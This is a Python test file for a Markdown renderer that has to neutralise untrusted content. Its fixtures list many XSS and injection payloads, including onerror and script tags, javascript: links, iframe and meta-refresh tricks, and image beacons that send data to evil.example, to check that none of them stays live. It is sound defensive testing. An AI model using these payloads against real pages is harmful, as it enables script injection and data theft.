"""Untrusted Markdown: nothing in it may run, load, restyle or deceive; all of it may be read."""

from __future__ import annotations

import os
import re
import signal
import threading
from html.parser import HTMLParser
from typing import NamedTuple

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from m1_magic.render.blocks import settled
from m1_magic.render.inert_markdown import inert
from m1_magic.render.markup import _clean, html
from m1_magic.text import escape_html, show_controls

# What an answer may consist of, in the words of the rendering code: Markdown's own tags, tables
# with ``align``, links to http(s) and mailto that tell nobody where they were clicked, Pygments'
# short classes, MathJax's marks. No id, no style, no event, nothing that loads.
LINK = r"(?:https?://[a-zA-Z0-9_.\[\]:-]+(?:[/?#][!-~]*)?|mailto:[!-~]+@[!-~]+)"
LANGUAGE = r"language-[\w+#.-]{1,30}"
NOTHING: dict[str, str] = {}
AUTO = {"dir": "auto"}
PAGE: dict[str, dict[str, str]] = {
    "a": {"href": f"(?i:{LINK})", "rel": "noopener noreferrer nofollow", "target": "_blank"},
    "code": {"class": LANGUAGE},
    "div": {"class": "highlight|m1-answer mathjax_ignore tex2jax_ignore"},
    "blockquote": AUTO | {"class": "m1-callout m1-(?:note|tip|important|warning|caution)"},
    "ol": AUTO | {"start": r"\d{1,9}"},
    "span": {"class": "mathjax_process tex2jax_process|[a-z][a-z0-9]{0,2}"},
    "td": AUTO | {"align": "left|right|center"},
    "th": AUTO | {"align": "left|right|center"},
    **dict.fromkeys(("p", "ul", "li", "h1", "h2", "h3", "h4", "h5", "h6", "table"), AUTO),
    **dict.fromkeys(("br", "hr", "pre", "em", "strong", "s", "del", "sup", "sub"), NOTHING),
    **dict.fromkeys(("thead", "tbody", "tr"), NOTHING),
}
# frontends.md §1 and the ways to write a picture or a script link in Markdown.
IMAGES = [
    "![alt](http://evil.example/x.png?d=SECRET)",
    '![alt](http://evil.example/x.png "title")',
    "![alt](<http://evil.example/x y.png>)",
    "![alt][ref]\n\n[ref]: http://evil.example/x.png",
    "![ref][]\n\n[ref]: http://evil.example/x.png",
    "![ref]\n\n[ref]: http://evil.example/x.png",
    "[![alt](http://evil.example/x.png)](http://evil.example/)",
    "![![a](http://evil.example/1.png)](http://evil.example/2.png)",
    "![alt](//evil.example/x.png)",
    "![alt](data:image/svg+xml;base64,PHN2Zz4=)",
    "![alt](/api/contents?_xsrf=1)",
    "| ![alt](http://evil.example/x.png) |\n|---|\n| ![b](http://evil.example/y.png) |",
]
RAW = [
    "<img src=x onerror=alert(1)>",
    "<img srcset='http://evil.example/x.png 1x'>",
    "a <img src=http://evil.example/x.png> b",
    "<script>alert(1)</script>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<iframe srcdoc='<script>top.alert(1)</script>'></iframe>",
    "<iframe src=http://evil.example></iframe>",
    "<svg onload=alert(1)><use href='http://evil.example/#x'/></svg>",
    "<style>@import url(http://evil.example/a.css);body{display:none}</style>",
    "<div style='position:fixed;top:0;background:url(http://evil.example/x)'>x</div>",
    "<form action=http://evil.example><input name=password></form>",
    "<a href=javascript:alert(1) target=_self>x</a>",
    "<button data-commandlinker-command='notebook:insert-cell-below'>x</button>",
    "<a data-commandlinker-command='notebook:insert-cell-below' href=#>x</a>",
    "<video poster=http://evil.example/x.png></video>",
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<object data=http://evil.example/x></object>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<p id=jupyter-config-data name=x>clobber</p>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<x:img/src=x onerror=alert(1)>",
]
SCRIPTS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](command:workbench.action.terminal.new)",
    "[x](/api/shutdown)",
    "[x](//evil.example)",
    "[x](#clobber)",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x](file:///etc/passwd)",
]
MATH = [
    "$\\href{javascript:alert(1)}{x}$",
    "\\(\\style{position:fixed}{x}\\)",
    "\\[\\class{jp-Dialog}{x}\\]",
    "$$\\cssId{main}{x}$$",
    "$$\\includegraphics{http://evil.example/x.png}$$",
    "\\[\\require{html}\\]",
    "$\\mmlToken{mi}[href='javascript:alert(1)']{x}$",
    "$\\def\\frac{owned}$",
    "$</span><img src=x onerror=alert(1)>$",
    "\\[</script><script>alert(1)</script> = 1\\]",
]
CODE = [
    "```html\n<img src=x onerror=alert(1)>\n```",
    "```mermaid\ngraph TD\nclick A javascript:alert(1)\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "```python\n# <script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "    <img src=x onerror=alert(1)>",
]
# JupyterLab's Markdown puts formulas back after parsing, into attributes, too.
EVENT = 'x" onfocus="alert(1)" y="'
PUT_BACK = [
    f'[x](https://evil.example "${EVENT}$")',
    f"[x](https://evil.example/${EVENT.replace(' ', '/')}$)",
    f"see https://evil.example/${EVENT.replace(' ', '/')}$ there",
    f"see www.evil.example/${EVENT.replace(' ', '/')}$ there",
    f'[x][y]\n\n[y]: https://evil.example "${EVENT}$"',
    f'[x][y]\n\n[y]: https://evil.example\n"${EVENT}$"',
    f'[x](https://evil.example\n"${EVENT}$")',
    f'[x](https://evil.example "\\begin{{x}}{EVENT}\\end{{x}}")',
    f'a ${EVENT}$ [x](https://evil.example "\\@@0\\@@")',
    f"a ${EVENT}$ [x](https://evil.example/\\@@0\\@@)",
    f"a ${EVENT}$ [x](https://evil.example/&#64;@0@@)",
    f"```${EVENT}$\ncode\n```",
    f"```{EVENT}\ncode\n```",
    f"a ${EVENT}$\n\n```\\@@0\\@@\ncode\n```",
    "a $\n~~~\n$ <img src=x onerror=alert(1)>\n~~~",
    "a \\begin{x}\n```\n\\end{x} <img src=x onerror=alert(1)>\n```",
    "```\n\\begin{x}\n```\n\\end{x}\n\n```\n<img src=x onerror=alert(1)>\n```",
]
ATTACKS = IMAGES + RAW + SCRIPTS + MATH + CODE + PUT_BACK


class Event(NamedTuple):
    """One step through a page: ``<`` opens a tag, ``>`` closes one, ``#`` is text, ``!`` else."""

    kind: str
    what: str
    attributes: tuple[tuple[str, str], ...] = ()


class Walk(HTMLParser):
    """Every step through a page."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.events: list[Event] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = tuple(sorted((name, value or "") for name, value in attrs))
        self.events.append(Event("<", tag, named))

    def handle_endtag(self, tag: str) -> None:
        self.events.append(Event(">", tag))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.events.append(Event("#", data))

    def handle_comment(self, data: str) -> None:
        self.events.append(Event("!", data))

    handle_decl = handle_pi = unknown_decl = handle_comment

    @property
    def tags(self) -> list[str]:
        return [event.what for event in self.events if event.kind == "<"]

    @property
    def found(self) -> list[tuple[str, str, str]]:
        """Each attribute: its tag, its name, its value."""
        return [(event.what, *pair) for event in self.events for pair in event.attributes]

    @property
    def text(self) -> str:
        return "".join(event.what for event in self.events if event.kind == "#")


def live(page: str) -> list[object]:
    """Return what is on a page that should not be: tags, attributes, comments."""
    strange: list[object] = []
    for kind, what, attributes in Walk(page).events:
        if kind == "!" or (kind in "<>" and what not in PAGE):
            strange.append((kind, what))
            continue
        for name, value in attributes:
            allowed = PAGE[what].get(name)
            if allowed is None or not re.fullmatch(allowed, value):
                strange.append((what, name, value))
        names = {name for name, _ in attributes}
        if what == "a" and "href" in names and names != PAGE["a"].keys():
            strange.append(("a", attributes))
    return strange


def text(markdown: str) -> str:
    return Walk(html(markdown)).text


def links(markdown: str) -> list[str]:
    return [value for tag, name, value in Walk(html(markdown)).found if name == "href"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_is_live_at_any_prefix(attack: str) -> None:
    for size in range(1, len(attack) + 1):
        page = html(attack[:size])
        assert live(page) == [], attack[:size]
    assert _clean(_clean(page)) == _clean(page)


@pytest.mark.parametrize("attack", IMAGES)
def test_a_picture_is_text_with_its_address(attack: str) -> None:
    assert "img" not in Walk(html(attack)).tags
    if "data:" in attack:  # the parser takes it for no picture at all
        assert text(attack).strip() == attack
        return
    assert "picture: " in text(attack)
    if "http://evil.example" in attack:
        assert "(evil.example)" in text(attack)


@pytest.mark.parametrize("attack", SCRIPTS)
def test_a_doubtful_link_is_text(attack: str) -> None:
    assert links(attack) == [] and "a" not in Walk(html(attack)).tags
    assert text(attack).strip()


@pytest.mark.parametrize("attack", MATH[:8])
def test_tex_that_makes_links_styles_or_macros_is_not_typeset(attack: str) -> None:
    assert "mathjax_process" not in html(attack)


def seen(markdown: str) -> Walk:
    """Return what a careless viewer makes of our inert Markdown."""
    viewer = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    viewer.validateLink = lambda url: True  # type: ignore[method-assign]
    return Walk(viewer.render(inert(markdown)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_inert_breaks_every_attack(attack: str) -> None:
    walk = seen(attack)
    assert set(walk.tags) <= PAGE.keys(), inert(attack)
    for tag, name, value in walk.found:
        assert (tag, name) in {("a", "href"), ("a", "title"), ("code", "class")}
        assert name != "href" or value.startswith(("http://", "https://", "mailto:", "%E2%81%A0"))


def test_inert_leaves_code_to_the_letter() -> None:
    markdown = "Use `x` so:\n\n```html\n<b>bold</b> ![x](y)\n```\n\nDone, <b>really</b>."
    assert "\n<b>bold</b> ![x](y)\n" in inert(markdown)
    assert "<b>really" not in inert(markdown)


def test_inert_trusts_no_fence_where_parsers_differ() -> None:
    assert "<img" not in inert("$$\n```\n$$\n<img src=x onerror=alert(1)>\n```")
    assert "<img" not in inert('[a]: /u "x\n```\ny"\n<img src=x onerror=alert(1)>\n```')
    assert "<img" not in inert("```\n```~\n<img src=x onerror=alert(1)>\n```")


def lab(markdown: str) -> Walk:
    """Return what JupyterLab makes of Markdown, as far as its handling of formulas goes."""
    formulas: list[str] = []

    def taken(formula: re.Match[str]) -> str:
        if re.search(r"\n\s*\n", formula[0]):
            return formula[0]
        formulas.append(formula[0].replace("<", "&lt;"))
        return f"@@{len(formulas) - 1}@@"

    # In fences of backticks, dollars do not count there.
    hidden = re.sub(r"(?ms)^```[^`\n]*\n.*?^```$", lambda m: m[0].replace("$", "\x00"), markdown)
    source = re.sub(r"(?s)\$[^$]+\$|\\begin\{x\}.*?\\end\{x\}", taken, hidden)
    source = re.sub(r"(?m)(?<![(<])((?:https?://|www\.\w)\S*)", r"[x](\1)", source)
    viewer = MarkdownIt("commonmark", {"html": True})
    viewer.validateLink = lambda url: True  # type: ignore[method-assign]
    viewer.normalizeLink = lambda url: url  # type: ignore[method-assign]
    page = viewer.render(source).replace("&quot;", '"').replace("\x00", "$")
    return Walk(re.sub(r"@@(\d+)@@", lambda m: formulas[int(m[1])], page))


def events(inventory: Walk) -> list[str]:
    return [name for _, name, _ in inventory.found if name.startswith("on")]


@pytest.mark.parametrize("attack", PUT_BACK)
def test_inert_is_inert_where_formulas_are_put_back(attack: str) -> None:
    assert events(lab(inert(attack))) == []
    quoted = "\n".join(f"> {row}" for row in inert(attack, quoted=True).split("\n"))
    assert events(lab(quoted)) == []


def test_the_viewer_that_puts_formulas_back_is_careless() -> None:
    spared = [attack for attack in PUT_BACK if not events(lab(attack))]
    assert len(spared) <= 4, spared


@pytest.mark.parametrize("opener", ["```mermaid", "~~~ mermaid", "````Mermaid", "a\n```mermaid"])
def test_inert_draws_no_diagram(opener: str) -> None:
    assert "mermaid" not in inert(f"{opener}\ngraph TD\n```").lower()


def test_inert_keeps_honest_links_and_code() -> None:
    kept = (
        "[docs](https://docs.example/a_(b)?c=1&d=2) costs $5, [mail](mailto:a@b.example)\n\n"
        "see https://docs.example/ and [x][y]\n\n[y]: https://docs.example/\n\nEnd."
    )
    assert inert(kept) == kept
    fenced = "So:\n```html\n<b>$x$</b>\n```\nand `$y$`."
    assert inert(fenced) == "So:\n\n```html\n<b>$x$</b>\n```\n\nand `$y$`."


def test_inert_writes_formulas_with_dollars() -> None:
    assert inert("so \\(x^2\\) and\n\\[\ny = 1\n\\]") == "so $x^2$ and\n$$\ny = 1\n$$"


@pytest.mark.parametrize(
    ("markdown", "host"),
    [
        ("[google.com](https://evil.example/a)", "(evil.example)"),
        ("[https://google.com/login](https://evil.example/)", "(evil.example)"),
        ("[go to g\u043e\u043egle.com](https://evil.example/)", "(evil.example)"),
        ("[google\u3002com](https://evil.example/)", "(evil.example)"),
        ("[`google.com`](https://evil.example/)", "(evil.example)"),
        ("[write to a@bank.com](mailto:b@evil.example)", "(b@evil.example)"),
    ],
)
def test_a_link_that_names_another_host_shows_its_own(markdown: str, host: str) -> None:
    assert host in text(markdown)
    assert len(links(markdown)) == 1


def test_an_honest_link_is_left_alone() -> None:
    assert text("[the docs](https://docs.example/a.html)").strip() == "the docs"
    assert text("<https://docs.example/a.html>").strip() == "https://docs.example/a.html"
    assert links("[a](https://docs.example/a?b=1&c=2)") == ["https://docs.example/a?b=1&c=2"]


def test_a_link_with_a_user_in_its_address_is_text() -> None:
    assert links("[x](https://google.com@evil.example/)") == []


def test_table_with_alignment_and_code() -> None:
    page = html("| a | b |\n|:--|--:|\n| 1 | `x<y` |\n")
    assert Walk(page).tags.count("td") == 2
    assert '<td align="right"><code>x&lt;y</code></td>' in page


def test_strikethrough_tasks_footnotes_nested_lists_cjk() -> None:
    assert "<s>gone</s>" in html("~~gone~~")
    assert "☐ open" in text("- [ ] open\n- [x] done") and "☑ done" in text("- [x] done")
    page = html("Word[^1].\n\n[^1]: The *note*.")
    assert "<sup>[1]</sup>" in page and "<em>note</em>" in page and links(page) == []
    assert html("- a\n  - b\n    1. c\n").count("<li>") == 3
    assert "<strong>求解</strong>" in html("**求解**方程")
    assert "ol start" in html("3. c\n4. d")


@pytest.mark.parametrize("kind", ["NOTE", "tip", "Important", "WARNING", "CAUTION"])
def test_callouts(kind: str) -> None:
    page = html(f"> [!{kind}]\n> Mind the *gap*.\n>\n> - a\n> - b")
    assert f'<blockquote class="m1-callout m1-{kind.lower()}">' in page
    title = kind.capitalize()
    assert f"<strong>{title}</strong><br>" in page and "<em>gap</em>" in page
    assert page.count("<li>") == 2 and live(page) == []
    assert f"<strong>{title}</strong></p></blockquote>" in html(f"> [!{kind}]")


@pytest.mark.parametrize(
    "markdown",
    ["> [!NOTE] x", "> [!OTHER]\n> x", "> x\n> [!NOTE]", "[!NOTE]\nx", "> *[!NOTE]*\n> x",
     "- [!NOTE]\n  x"],
)  # fmt: skip
def test_what_is_no_callout_is_text(markdown: str) -> None:
    assert "m1-callout" not in html(markdown)
    assert "[!" in text(markdown)


def test_text_from_right_to_left_says_so() -> None:
    page = html("שלום\n\n- مرحبا\n- b\n\n> שלום\n\n| א |\n|-|\n| ב |\n\n# שלום\n\nleft")
    for tag in ("p", "ul", "li", "blockquote", "table", "th", "td", "h1"):
        assert f'<{tag} dir="auto">' in page, tag
    assert "<p>left</p>" in page and "<li>b</li>" in page and live(page) == []


def test_a_footnote_without_a_reference_is_not_lost() -> None:
    page = html("a[^1]\n\n[^1]: used\n\n[^2]: loose *x*\n\n    more\n\n[^3]:\n")
    assert "<p>[^2]: loose <em>x</em></p><p>more</p><p>[^3]: </p>" in page
    assert "<li><p>used</p></li>" in page and "[^1]" not in page


def test_a_change_of_code_is_coloured() -> None:
    page = html("```diff\n-old\n+new\n```")
    assert '<span class="gd">-old</span>\n<span class="gi">+new</span>\n' in page


@pytest.mark.parametrize("language", ["python", "rust", "html", "no-such-language", ""])
def test_code_is_shown_to_the_letter(language: str) -> None:
    code = "\n  if a < b && c > d:\n\n\treturn '<b>&amp;</b>'  # \u00a0 ü\n\n"
    assert text(f"```{language}\n{code}```").removesuffix("\n") == code.removesuffix("\n")


def test_known_languages_are_coloured() -> None:
    assert '<span class="k">def</span>' in html("```python\ndef f(): pass\n```")
    assert "<span" not in html("```mermaid\ngraph TD\n```")


def formulas(markdown: str) -> list[str]:
    page = html(markdown)
    return re.findall(r'<span class="mathjax_process tex2jax_process">(.*?)</span>', page, re.S)


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("so $x_1*y_2*z$.", [r"\(x_1*y_2*z\)"]),
        ("so \\(a_b\\) and \\[c_d\\]", [r"\(a_b\)", r"\[c_d\]"]),
        ("$$\na\\\\\n- b\n= c\n$$", ["\\[a\\\\\n- b\n= c\\]"]),
        ("\\[\n\\frac{a}{b}\n\\].", [r"\[\frac{a}{b}.\]"]),
        ("- item\n\n  \\[\n  x = 1\n  \\]\n\n- next", [r"\[x = 1\]"]),
        ("求$x$的值", [r"\(x\)"]),
        ("the $n$th of $a < b$", [r"\(n\)", r"\(a &lt; b\)"]),
        ("$\\alpha$-$\\beta$", [r"\(\alpha\)", r"\(\beta\)"]),
        ("from $5 to $6", []),
        ("US$5 and HK$6, 7$ or $8", []),
        ("between $1,000 and $2,000, or ($5)", []),
        ("$HOME/$USER and `$x$`", []),
        ("`$x$` and\n\n```\n$y$\n```", []),
        ("escaped \\$x$ and \\[1\\]", []),
        ("unfinished $x_1", []),
        ("unfinished \\(x_1", []),
        ("no formula: $$ is the pid\n\nand *more*", []),
    ],
)
def test_formulas_and_money(markdown: str, expected: list[str]) -> None:
    assert formulas(markdown) == expected
    assert live(html(markdown)) == []


def test_without_typesetting_tex_is_text() -> None:
    page = html("so $x_1*y*$", typeset=False)
    assert "mathjax_process" not in page and r"\(x_1*y*\)" in page


SAMPLE = (
    "# Title\n\nSome **bold** and $x_1$.\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
    "```python\nprint('<b>')\n```\n\n\\[\n\\frac{a}{b}\n\\]\n\nEnd.\n"
)


def test_every_prefix_of_a_stream_reads_well() -> None:
    for size in range(len(SAMPLE) + 1):
        page = html(settled(SAMPLE[:size]), typeset=False)
        assert live(page) == []
        assert "<h2>" not in page, SAMPLE[:size]  # "text\n-" is no heading
        assert "|" not in Walk(page).text, SAMPLE[:size]
        assert "```" not in Walk(page).text, SAMPLE[:size]
    assert settled(SAMPLE) == SAMPLE


def test_an_open_formula_is_shown_as_it_comes() -> None:
    assert "<pre>$$\n\\frac{a_1}{b_</pre>" in html("$$\n\\frac{a_1}{b_")


def test_hidden_characters_are_made_visible() -> None:
    assert (
        show_controls("a\x1b[31mred\x1b[0m\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x07")
        == "aredlink"
    )
    assert show_controls("\x1b c\x07\r\nd\re\x9b1m") == "␛ c␇\nd\ne"
    assert show_controls("\u202eabc\u200b\U000e0041") == "⟨U+202E⟩abc⟨U+200B⟩⟨U+E0041⟩"
    assert show_controls("\ud800") == "\ufffd"
    assert "\u202e" not in html("a\u202eb") and "\x1b" not in html("a\x1b[2Jb")


@given(st.text(st.characters(categories=["L", "N", "P", "S", "Zs"])))
def test_ordinary_text_is_left_as_it_is(plain: str) -> None:
    assert show_controls(plain) == plain


@given(st.text())
def test_visible_is_idempotent_and_escape_is_text(foreign: str) -> None:
    assert show_controls(show_controls(foreign)) == show_controls(foreign)
    assert Walk(escape_html(foreign)).tags == []
    assert '"' not in escape_html(foreign) and "'" not in escape_html(foreign)


@pytest.mark.parametrize("piece", ["[", "![", "**a", "> ", "$", "\\(", "`", "- ", "|", "<", "~~"])
def test_a_long_row_of_marks_is_shown(piece: str) -> None:
    assert live(html(piece * 400)) == []


def test_ctrl_c_is_not_lost_while_it_is_cleaned() -> None:
    """nh3 swallows whatever is raised in its filter of attributes."""
    page = "<table>" + '<tr><td align="left">x</td></tr>' * 3000 + "</table>"
    for _ in range(20):
        timer = threading.Timer(0.003, os.kill, (os.getpid(), signal.SIGINT))
        with pytest.raises(KeyboardInterrupt):
            timer.start()
            while timer.is_alive():
                _clean(page)
            _clean(page)
